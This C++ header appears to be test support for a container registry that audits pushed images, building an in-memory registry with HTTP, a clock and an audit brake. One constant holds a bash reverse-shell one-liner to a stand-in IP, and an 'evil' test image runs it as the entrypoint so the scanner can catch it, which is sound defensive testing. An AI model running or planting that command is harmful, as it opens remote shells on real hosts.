// A whole registry for tests: real HTTP, gate and audit over stores in memory, with a clock and a brake of its own.
#pragma once

#include <gtest/gtest.h>
#include <unistd.h>

#include <atomic>
#include <condition_variable>
#include <filesystem>
#include <functional>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "audit/cache.h"
#include "audit/ruleset.h"
#include "base/text.h"
#include "format/tar_test_support.h"
#include "gate/collector.h"
#include "gate/gate.h"
#include "gate/ledger.h"
#include "net/server_client_test_support.h"
#include "registry/description.h"
#include "registry/registry.h"
#include "report/writer.h"

namespace lazaret::registry::test {

inline const std::string manifest_type = "application/vnd.oci.image.manifest.v1+json";
inline const std::string index_type = "application/vnd.oci.image.index.v1+json";
inline const std::string layer_type = "application/vnd.oci.image.layer.v1.tar";
inline const std::string config_type = "application/vnd.oci.image.config.v1+json";
inline const std::string shell_script = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";

inline std::string digest_of(std::string_view bytes) { return sha256(as_bytes(bytes)).str(); }
inline std::string sha512_of(std::string_view bytes) { return hash(HashAlgorithm::sha512, as_bytes(bytes)).str(); }
inline std::string descriptor(std::string_view bytes, const std::string& type, const std::string& more = "") {
  return "{\"mediaType\":\"" + type + "\",\"digest\":\"" + digest_of(bytes) + "\",\"size\":" + std::to_string(bytes.size()) + more + "}";
}

// An image: one layer for each of `files` (path, content).
struct Image {
  std::vector<std::string> layers;
  std::string config, manifest;

  explicit Image(const std::vector<std::pair<std::string, std::string>>& files, const std::string& entrypoint = "/bin/true", const std::string& more = "",
                 const std::string& config_media_type = config_type, const std::string& layer_media_type = layer_type) {
    std::string diff_ids, descriptors;
    for (const auto& [path, content] : files) {
      layers.push_back(format::TarBlock(path, '0', content.size()).octal(100, 8, 0755).str() + format::tar_padded(content) + format::tar_end_marker);
      diff_ids += (diff_ids.empty() ? "\"" : ",\"") + digest_of(layers.back()) + "\"";
      descriptors += (descriptors.empty() ? "" : ",") + descriptor(layers.back(), layer_media_type);
    }
    config = "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Entrypoint\":[\"" + entrypoint + "\"]},\"rootfs\":{\"type\":\"layers\",\"diff_ids\":[" + diff_ids + "]}}";
    manifest = "{\"schemaVersion\":2,\"mediaType\":\"" + manifest_type + "\",\"config\":" + descriptor(config, config_media_type) + ",\"layers\":[" + descriptors + "]" + more + "}";
  }
  std::string digest() const { return digest_of(manifest); }
};

inline Image clean_image(const std::string& name = "clean", const std::string& more = "") { return Image({{"etc/" + name, "hello " + name + "\n"}}, "/bin/true", more); }
inline Image evil_image(const std::string& name = "evil", const std::string& more = "") {
  return Image({{"etc/base", "base\n"}, {"run.sh", shell_script + "# " + name + "\n"}}, "/run.sh", more);
}
inline std::string index_of(const std::vector<std::string>& manifests, const std::string& more = "", const std::string& type = manifest_type) {
  std::string list;
  for (const std::string& manifest : manifests) {
    const bool nested = manifest.find("\"manifests\"") != std::string::npos;
    list += (list.empty() ? "" : ",") + descriptor(manifest, nested ? index_type : type);
  }
  return "{\"schemaVersion\":2,\"mediaType\":\"" + index_type + "\",\"manifests\":[" + list + "]" + more + "}";
}

// Who asks stands in X-User. A namespace belongs to the account of its name, "admin" may everything, "secret/..." is read by its account alone.
class TestAuthorizer final : public Authorizer {
 public:
  std::optional<Caller> known_caller(const net::Request& request) override {
    const std::string name(request.header("X-User").value_or(""));
    return Caller{name, name == "admin", ""};
  }
  Result<Caller> caller(const net::Request& request) override { return *known_caller(request); }
  bool may(const Caller& caller, Action action, std::string_view repository) override {
    if (caller.administrator) return true;
    const bool own = !caller.anonymous() && repository.starts_with(caller.name + "/");
    if (action == Action::pull) return own || !repository.starts_with("secret/");
    return own;
  }
  bool ping_needs_credentials(const Caller&) override { return false; }
  std::string challenge(const net::Request&, const std::vector<Scope>&, bool) override { return "Basic realm=\"test\""; }
};

class Folder {
 public:
  Folder() {
    char name[] = "/tmp/lazaret-registry-XXXXXX";
    path_ = ::mkdtemp(name);
  }
  ~Folder() { std::filesystem::remove_all(path_); }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};

inline std::shared_ptr<const audit::Ruleset> shared_ruleset() {
  static const auto ruleset = std::move(*audit::Ruleset::make({}));
  return ruleset;
}

class World {
 public:
  explicit World(gate::Policy policy = quick(), const audit::Policy& audit_policy = audit::Policy::standard(), RegistryOptions options = {})
      : policy_(policy), audit_policy_(audit_policy), options_(std::move(options)) {
    std::string warning;
    cache_ = std::move(*audit::Cache::open(folder_.path() + "/cache", shared_ruleset()->digest(), limits_, 1 << 30, &warning));
    open();
  }
  ~World() {
    release_audits();
    close();
  }

  // Waits that tests can wait for.
  static gate::Policy quick() {
    gate::Policy policy;
    policy.push_wait = std::chrono::seconds(60);
    policy.pull_wait = std::chrono::milliseconds(50);
    return policy;
  }

  void open() {
    gate::Parts parts;
    parts.blobs = blobs_.get();
    parts.metadata = metadata_.get();
    parts.ruleset = shared_ruleset();
    parts.audit_policy = &audit_policy_;
    parts.machine = &machine_;
    parts.cache = cache_.get();
    parts.clock = [this] { return now_.load(); };
    parts.describe = [this](const store::Manifest& manifest, const std::string& bytes, const gate::Parts::ReadBlob& read) {
      ++audits;
      {
        std::unique_lock lock(brake_mutex_);
        ++arrived_;
        brake_.notify_all();
        brake_.wait(lock, [this] { return !held_; });
      }
      if (on_audit) on_audit();
      return describe_manifest(manifest, bytes, read, limits_);
    };
    parts.write_report = [](const audit::Report& report) { return report::to_json({report}, false); };
    parts.marks_folder = folder_.path() + "/auditing";
    gate_ = std::move(*gate::Gate::open(std::move(parts), policy_, limits_, 3));
    ledger_ = std::make_unique<gate::Ledger>(*ledger_store_);
    registry_ = std::make_unique<Registry>(*gate_, *ledger_, authorizer_, options_);
    gate_->on_revocation([this] { registry_->recheck_transfers(); });
    server_ = net::start_server([this](const net::ExchangePtr& exchange) { registry_->handle(exchange); });
  }
  void close() {
    if (server_ != nullptr) server_->stop(std::chrono::milliseconds(100));
    gate_.reset();
    server_.reset();
    registry_.reset();
    ledger_.reset();
  }

  // Audits stop before they look at anything until release_audits().
  void hold_audits() {
    const std::lock_guard lock(brake_mutex_);
    held_ = true;
    arrived_ = 0;
  }
  void wait_for_audit(int count = 1) {
    std::unique_lock lock(brake_mutex_);
    brake_.wait(lock, [&] { return arrived_ >= count; });
  }
  void release_audits() {
    const std::lock_guard lock(brake_mutex_);
    held_ = false;
    brake_.notify_all();
  }

  net::Answer request(const std::string& method, const std::string& target, const std::string& user = "", const std::string& headers = "", std::string_view body = {}) {
    net::RawClient client(server_->port());
    std::string head = method + " " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + headers;
    if (!user.empty()) head += "X-User: " + user + "\r\n";
    if (method == "PUT" || method == "POST" || method == "PATCH" || !body.empty()) head += "Content-Length: " + std::to_string(body.size()) + "\r\n";
    client.send(head + "\r\n");
    client.send(body);
    return client.read(method == "HEAD");
  }
  net::Answer get(const std::string& target, const std::string& user = "", const std::string& headers = "") { return request("GET", target, user, headers); }
  net::Answer head(const std::string& target, const std::string& user = "", const std::string& headers = "") { return request("HEAD", target, user, headers); }

  std::string start_upload(const std::string& repository, const std::string& user, const std::string& query = "") {
    return request("POST", "/v2/" + repository + "/blobs/uploads/" + query, user).headers["location"];
  }
  net::Answer push_blob(const std::string& repository, const std::string& user, std::string_view bytes, const std::string& digest = "") {
    return request("PUT", start_upload(repository, user) + "?digest=" + (digest.empty() ? digest_of(bytes) : digest), user, "", bytes);
  }
  void push_blobs(const std::string& repository, const std::string& user, const Image& image) {
    EXPECT_EQ(push_blob(repository, user, image.config).status, 201);
    for (const std::string& layer : image.layers) EXPECT_EQ(push_blob(repository, user, layer).status, 201);
  }
  net::Answer put_manifest(const std::string& repository, const std::string& reference, const std::string& user, std::string_view bytes, const std::string& type = manifest_type) {
    return request("PUT", "/v2/" + repository + "/manifests/" + reference, user, type.empty() ? "" : "Content-Type: " + type + "\r\n", bytes);
  }
  net::Answer push(const std::string& repository, const std::string& tag, const std::string& user, const Image& image) {
    push_blobs(repository, user, image);
    return put_manifest(repository, tag, user, image.manifest);
  }
  // A push whose verdict is held back: returns when the audit waits. Join after release_audits().
  std::thread push_and_hold(const std::string& repository, const std::string& tag, const std::string& user, const Image& image, net::Answer* answer = nullptr) {
    push_blobs(repository, user, image);
    hold_audits();
    std::thread pusher([=, this] {
      const net::Answer given = put_manifest(repository, tag, user, image.manifest);
      if (answer != nullptr) *answer = given;
    });
    wait_for_audit();
    return pusher;
  }

  gate::Gate& gate() { return *gate_; }
  Registry& registry() { return *registry_; }
  store::MetadataStore& metadata() { return *metadata_; }
  store::BlobStore& blobs() { return *blobs_; }
  gate::Ledger& ledger() { return *ledger_; }
  store::LedgerStore& ledger_store() { return *ledger_store_; }
  std::uint16_t port() const { return server_->port(); }
  const std::string& folder() const { return folder_.path(); }
  void set_policy(const gate::Policy& policy) { policy_ = policy; }
  void set_audit_policy(const audit::Policy& policy) { audit_policy_ = policy; }
  void advance(std::chrono::milliseconds by) { now_ += by.count(); }

  std::atomic<int> audits{0};
  std::function<void()> on_audit;  // set while audits are held, or before any push

 private:
  const Folder folder_;
  const Limits limits_;
  gate::Policy policy_;
  audit::Policy audit_policy_;
  const RegistryOptions options_;
  std::atomic<store::Time> now_{1'600'000'000'000};
  std::unique_ptr<store::BlobStore> blobs_ = store::make_memory_blob_store();
  std::unique_ptr<store::MetadataStore> metadata_ = std::move(*store::open_sqlite_metadata_store(""));
  std::unique_ptr<store::LedgerStore> ledger_store_ = std::move(*store::open_sqlite_ledger(""));
  audit::AuditMachine machine_{2, limits_};
  std::unique_ptr<audit::Cache> cache_;
  TestAuthorizer authorizer_;
  std::mutex brake_mutex_;
  std::condition_variable brake_;
  bool held_ = false;
  int arrived_ = 0;
  std::unique_ptr<gate::Gate> gate_;
  std::unique_ptr<gate::Ledger> ledger_;
  std::unique_ptr<Registry> registry_;
  std::unique_ptr<net::Server> server_;
};

inline bool has_code(const net::Answer& answer, const std::string& code) { return answer.body.find("\"code\":\"" + code + "\"") != std::string::npos; }

}  // namespace lazaret::registry::test
